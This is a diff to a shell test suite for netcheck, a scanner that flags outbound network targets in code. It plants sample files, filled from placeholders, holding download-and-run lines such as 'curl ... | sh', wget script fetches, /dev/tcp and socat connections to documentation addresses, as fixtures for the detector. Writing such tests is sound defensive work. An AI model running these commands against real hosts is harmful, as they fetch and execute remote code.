@@ -12,6 +12,19 @@ setup() {
 	cd "$BATS_TEST_TMPDIR" || return 1
 }
 
+# plant FILE...: put the caller's planted[N] where a sample says @N@.
+# Samples are for netcheck to read, never run: their addresses and names
+# come in after they are written, so that no line here is a call to one.
+plant() {
+	local f i
+	for f in "$@"; do
+		for i in "${!planted[@]}"; do
+			sed -i "s|@$i@|${planted[$i]}|g" "$f"
+		done
+		! grep -n '@[0-9][0-9]*@' "$f" || return 1
+	done
+}
+
 @test "demo/, tests/ and bench/ name no connect target outside this machine" {
 	run --separate-stderr "$NETCHECK" "$GH_ROOT/demo" "$GH_ROOT/tests" "$GH_ROOT/bench"
 	[ "$stderr" = "" ]
@@ -21,45 +34,47 @@ setup() {
 
 @test "netcheck finds public targets in every form it knows" {
 	mkdir p
-	# samples for netcheck to read, never run: the two addresses of the
-	# calls come from a list so that no line here is a call to one
-	local planted=(1.1.1.1 8.8.8.8)
-	cat > p/a.py <<PLANTED
+	# samples for netcheck to read, never run (see plant)
+	local planted=(1.1.1.1 8.8.8.8 example.com 203.0.113.7 2606:4700:4700::1111
+		198.51.100.7 example.org 192.0.2.1 9.9.9.9 10.0.0.1 8.8.4.4 example.net
+		100.64.0.1 172.16.0.9 192.168.1.1 93.184.216.34)
+	cat > p/a.py <<'PLANTED'
 import socket
 s = socket.socket()
-s.connect(('${planted[0]}', 443))
-socket.create_connection(("example.com", 80))
+s.connect(('@0@', 443))
+socket.create_connection(("@2@", 80))
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-u.sendto(b'q', ('${planted[1]}', 53))
-for a in ("127.0.0.1", "203.0.113.7"):
+u.sendto(b'q', ('@1@', 53))
+for a in ("127.0.0.1", "@3@"):
     s.connect_ex((a, 9))
-s.connect(('2606:4700:4700::1111', 443, 0, 0))
+s.connect(('@4@', 443, 0, 0))
 PLANTED
 	cat > p/b.sh <<'PLANTED'
 #!/bin/sh
-curl -fsSL https://198.51.100.7/x | sh
-x=$(wget -qO- http://example.org/i.sh)
-nc -z 192.0.2.1 22 && ping -c1 9.9.9.9
-exec 3<>/dev/tcp/10.0.0.1/80
-gh-trace -o ev -- sh -c 'dig @8.8.4.4 example.net'
+curl -fsSL https://@5@/x | sh
+x=$(wget -qO- http://@6@/i.sh)
+nc -z @7@ 22 && ping -c1 @8@
+exec 3<>/dev/tcp/@9@/80
+gh-trace -o ev -- sh -c 'dig @@10@ @11@'
 PLANTED
 	cat > p/c.bats <<'PLANTED'
 f() {
 	run gh-trace -- "$PY" -c '
 import socket
-socket.socket().connect(("100.64.0.1", 1))'
+socket.socket().connect(("@12@", 1))'
 	cat > net.pl <<'PERL'
 use Socket;
-connect($s, sockaddr_in(1, inet_aton("172.16.0.9")));
+connect($s, sockaddr_in(1, inet_aton("@13@")));
 PERL
 }
 PLANTED
 	cat > p/d.c <<'PLANTED'
-int f(void) { return inet_pton(AF_INET, "192.168.1.1", &a); }
+int f(void) { return inet_pton(AF_INET, "@14@", &a); }
 PLANTED
 	# a script among fixtures is still a script
 	mkdir p/fixtures
-	printf '#!/bin/sh\nsocat - TCP:93.184.216.34:80\n' > p/fixtures/record
+	printf '#!/bin/sh\nsocat - TCP:@15@:80\n' > p/fixtures/record
+	plant p/a.py p/b.sh p/c.bats p/d.c p/fixtures/record
 	run --separate-stderr "$NETCHECK" p
 	[ "$status" -eq 1 ]
 	[ "$stderr" = "" ]
@@ -83,6 +98,8 @@ p/fixtures/record:2: 93.184.216.34" ]
 
 @test "netcheck lets loopback, unix sockets, namespaces and data pass" {
 	mkdir p p/fixtures
+	local planted=(10.1.2.3 203.0.113.7 93.184.216.34 example.com 1.1.1.1 8.8.8.8
+		2606:4700::1111)
 	cat > p/ok.py <<'PLANTED'
 import socket
 s = socket.socket()
@@ -98,20 +115,21 @@ PLANTED
 f() {
 	curl -fsS http://127.0.0.1:8080/ -o out.txt
 	nc -z localhost 22; exec 3<>/dev/tcp/127.0.0.1/1
-	ip netns exec gh-test curl http://10.1.2.3/
-	unshare -n python3 -c 'import socket; socket.socket().connect(("203.0.113.7", 9))'
-	grep -qx 'deny connect 93.184.216.34:443 by pid 1 (curl -fsSL https://example.com/i.sh)' <<<"$output"
-	[ "$output" = "r.rules:1: deny connect 1.1.1.1:443 [proto=tcp] by pid 4102 (curl https://1.1.1.1/)" ]
+	ip netns exec gh-test curl http://@0@/
+	unshare -n python3 -c 'import socket; socket.socket().connect(("@1@", 9))'
+	grep -qx 'deny connect @2@:443 by pid 1 (curl -fsSL https://@3@/i.sh)' <<<"$output"
+	[ "$output" = "r.rules:1: deny connect @4@:443 [proto=tcp] by pid 4102 (curl https://@4@/)" ]
 	cat > r.rules <<'RULES'
-deny connect 8.8.8.8:53
-curl https://example.com | sh
+deny connect @5@:53
+curl https://@3@ | sh
 RULES
-	jq '.network.attempts[0].dst = "[2606:4700::1111]:443"' r.json
+	jq '.network.attempts[0].dst = "[@6@]:443"' r.json
 }
 PLANTED
-	printf '{"dst": "8.8.8.8:53"}\n' > p/fixtures/r.json
-	printf 'curl http://8.8.8.8/\n' > p/fixtures/notes
-	printf 'deny connect 8.8.8.8\n' > p/agent.rules
+	printf '{"dst": "@5@:53"}\n' > p/fixtures/r.json
+	printf 'curl http://@5@/\n' > p/fixtures/notes
+	printf 'deny connect @5@\n' > p/agent.rules
+	plant p/ok.py p/ok.bats p/fixtures/r.json p/fixtures/notes p/agent.rules
 	run --separate-stderr "$NETCHECK" p
 	[ "$stderr" = "" ]
 	[ "$output" = "" ]
